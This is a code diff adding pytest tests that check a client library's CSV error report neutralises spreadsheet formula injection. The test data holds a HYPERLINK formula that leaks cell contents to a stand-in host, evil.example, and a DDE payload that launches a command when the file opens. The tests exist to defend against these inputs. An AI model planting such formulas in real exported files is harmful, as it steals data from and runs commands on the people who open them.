@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import csv
 import errno
 import os
 import threading
@@ -9,7 +10,8 @@ from pathlib import Path
 
 import pytest
 
-from scoreline_client.files.sink import PartFile
+from scoreline_client.files.sink import ErrorReport, PartFile
+from tests.support.bulk import run
 
 DATA = memoryview(b"x" * 1000)
 
@@ -80,3 +82,31 @@ def test_it_goes_on_behind_what_is_whole(tmp_path: Path) -> None:
     part.write(memoryview(b"!"))
     part.close()
     assert (tmp_path / "part").read_bytes() == b"whole!"
+
+
+def test_a_formula_in_the_input_is_text_in_the_error_report(tmp_path: Path) -> None:
+    """People open it in a spreadsheet, which would run it."""
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+    report = ErrorReport(tmp_path / "errors.csv")
+    report.write(
+        [
+            {"row": 1, "value": formula, "column": "@SUM(1+1)", "code": "E_JSON", "message": "-x"},
+            {"row": 2, "value": "-3.5", "column": "-1", "code": "E_TYPE", "message": "a"},
+        ]
+    )
+    with (tmp_path / "errors.csv").open(newline="") as file:
+        first, second = csv.DictReader(file)
+    assert (first["value"], first["column"], first["message"]) == (
+        f"'{formula}",
+        "'@SUM(1+1)",
+        "'-x",
+    )
+    assert (second["value"], second["column"]) == ("-3.5", "-1")
+
+
+def test_a_line_that_is_no_json_but_a_formula_is_text_in_the_error_report(tmp_path: Path) -> None:
+    (tmp_path / "in.jsonl").write_text("{\"a\":9}\n@SUM(1+1)*cmd|' /C calc'!A0\n")
+    run(tmp_path / "in.jsonl", tmp_path / "out.jsonl")
+    with (tmp_path / "out.jsonl.errors.csv").open(newline="") as file:
+        (line,) = csv.DictReader(file)
+    assert line["value"].startswith("'@SUM")
